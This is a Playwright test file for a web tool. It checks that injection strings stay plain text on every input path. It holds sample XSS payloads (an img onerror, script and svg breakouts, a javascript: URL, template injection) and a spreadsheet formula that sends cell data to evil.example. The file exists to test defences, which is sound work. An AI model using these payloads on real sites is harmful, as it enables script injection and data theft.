// Text that tries to act as markup, a formula, an address or a command, through every way text comes in.
import { start } from "./saved-cases.js";
import { Tool, expect, test } from "./tool.js";

const TEXTS = {
  "an image": "<img src=x onerror=\"globalThis.caught='image'\">",
  "a script that closes the one around it": "</script><script>globalThis.caught='script'</script>",
  "the end of a field": "\"></textarea><svg onload=globalThis.caught='svg'>",
  "a formula": '=HYPERLINK("https://evil.example/?"&A1)',
  "an address": "javascript:globalThis.caught='address'",
  "a template": "{{constructor.constructor('globalThis.caught=1')()}} ${globalThis.caught=1}",
  "text with direction marks": "\u202egnp.esac\u202c \u2066\u200f",
};

const file = (text) => ({
  format: "stop-fix-scale/case", version: 1, id: "attack", model: "AI1", title: text, summary: text, owner: text,
  quick: { V: { level: 3 } }, answers: { V1: { level: 3, note: text } }, context: {},
  review: { metric: text, floor: text, action: text, date: "2020-01-01" },
});

/** No script ran. The page's messages and requests are checked when the test ends. */
async function untouched(page) {
  expect(await page.evaluate(() => globalThis.caught)).toBeUndefined();
}

/** Opens everything that shows text. */
async function openAll(tool, text) {
  await expect(tool.title).toHaveValue(text);
  await tool.element.locator(".about-edit:visible").click();
  await expect(tool.summary).toHaveValue(text);
  await tool.unfold("Value");
  await expect(tool.note("Decision and outcome")).toHaveValue(text);
  await expect(tool.sheet.locator(".sheet-title")).toHaveText(text, { useInnerText: false });
}

for (const [name, text] of Object.entries(TEXTS)) {
  test(`${name} stays text, whichever way it comes in`, async ({ page, tool }) => {
    const dialogs = [];
    page.on("dialog", (dialog) => dialogs.push(dialog.message()) && dialog.dismiss());
    await tool.open();

    await test.step("typed and saved", async () => {
      await tool.title.fill(text);
      await tool.rate("Value", "Agreed");
      await tool.way("All cases").click();
      await tool.element.locator(".case-name").click();
      await expect(tool.title).toHaveValue(text);
      await untouched(page);
    });

    await test.step("in a link with its name", async () => {
      await tool.press("Share");
      const dialog = tool.element.getByRole("dialog", { name: "Share this case" });
      await dialog.getByRole("checkbox").check();
      const link = await dialog.getByRole("textbox").inputValue();
      await page.goto("about:blank");
      await page.goto(link);
      await tool.started();
      await expect(tool.element.getByText("This is a preview.")).toBeVisible();
      await expect(tool.title).toHaveValue(text);
      await untouched(page);
    });

    await test.step("in an imported file", async () => {
      await page.goto("./");
      await tool.started();
      await tool.way("All cases").click();
      await tool.element.getByText("Backup, import and export").click();
      const chosen = page.waitForEvent("filechooser");
      await tool.press("Import files");
      await (await chosen).setFiles({ name: `${text.replace(/[/\\]/g, "")}.json`, mimeType: "application/json", buffer: Buffer.from(JSON.stringify(file(text))) });
      await tool.press("Add one case");
      // Until it is stored, the browser asks before leaving the page.
      await expect(tool.element.locator(".notice")).toContainText("One case was added.");
      await tool.element.locator(".case-name").first().click();
      await untouched(page);
    });

    await test.step("in storage", async () => {
      const { review, ...rest } = file(text);
      await start(page, tool, [{ ...rest, review, answers: "V:3" }]);
      await tool.element.locator(".case-name").last().click();
      await untouched(page);
    });

    await test.step("as an object, and as an invalid value", async () => {
      await page.evaluate(() => document.body.append(document.createElement("stop-fix-scale")));
      const other = new Tool(page, page.locator("stop-fix-scale").last());
      await expect(other.verdict).toBeVisible();
      expect(await other.element.evaluate((element, json) => element.load(json), file(text))).toMatchObject({ ok: true });
      await openAll(other, text);
      await other.element.evaluate((element, value) => {
        element.value = value;
        element.setAttribute("value", value);
        element.lang = value;
        element.shareBase = value;
        element.theme = value;
        return element.shareLink();
      }, text);
      await expect(other.title, "not a value: nothing has changed").toHaveValue(text);
      await untouched(page);
    });
    expect(dialogs).toEqual([]);
  });
}
